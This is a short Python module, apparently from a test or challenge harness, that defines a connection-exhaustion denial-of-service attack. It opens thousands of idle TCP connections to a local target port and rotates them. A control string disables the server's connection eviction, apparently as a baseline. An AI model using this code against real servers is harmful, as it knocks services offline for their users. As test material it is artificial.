"""Thousands of connections that send nothing, without a token: they take the places of others."""

from __future__ import annotations

import asyncio
import resource
import socket
from collections import deque
from contextlib import suppress

from . import Attack, Target

#: The number of connections that the attack keeps, and the number that it then replaces each time.
_KEPT, _REPLACED = 3000, 50


async def run(target: Target) -> None:
    """Open connections as fast as the server accepts them, and then replace the oldest."""
    await hold_connections(target, b"")


async def hold_connections(target: Target, sent: bytes) -> None:
    """Hold connections on which ``sent`` was sent."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: deque[socket.socket] = deque()
    while True:
        for _ in range(_REPLACED):
            if len(held) >= min(_KEPT, most - 100):
                held.popleft().close()
            with suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", target.port), timeout=1)
                held.append(connection)
                if sent:
                    connection.sendall(sent)
        await asyncio.sleep(0.02)


ATTACK = Attack(
    run,
    memory=64,
    control=(
        "from treehub_level.http.server.connection_table import ConnectionTable as T; "
        "T.make_room = lambda self: False; T._evict = lambda self, address: False; "
    ),
)
